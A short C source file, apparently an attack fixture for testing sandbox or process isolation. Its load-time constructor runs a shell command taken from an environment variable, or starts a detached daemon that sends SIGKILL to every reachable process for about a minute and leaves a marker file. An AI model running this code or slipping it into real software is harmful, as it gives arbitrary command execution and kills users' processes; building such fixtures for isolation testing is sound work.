/* Constructor of the native attacks: runs $L2FT_CMD with the shell, or forks a daemon
   ($L2FT_DAEMON) in a new session that keeps SIGKILLing every process it can for a minute. */
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

__attribute__((constructor)) static void attack(void) {
    const char *cmd = getenv("L2FT_CMD");
    if (cmd) {
        fflush(stdout);
        system(cmd);
    }
    if (getenv("L2FT_DAEMON") && fork() == 0) {
        setsid();
        if (fork() != 0) _exit(0);
        sleep(1);
        for (int i = 0; i < 3000; i++) {
            kill(-1, SIGKILL);
            FILE *f = fopen("/tmp/DAEMON_WAS_HERE", "a");
            if (f) { fputs("x", f); fclose(f); }
            usleep(20000);
        }
        _exit(0);
    }
}
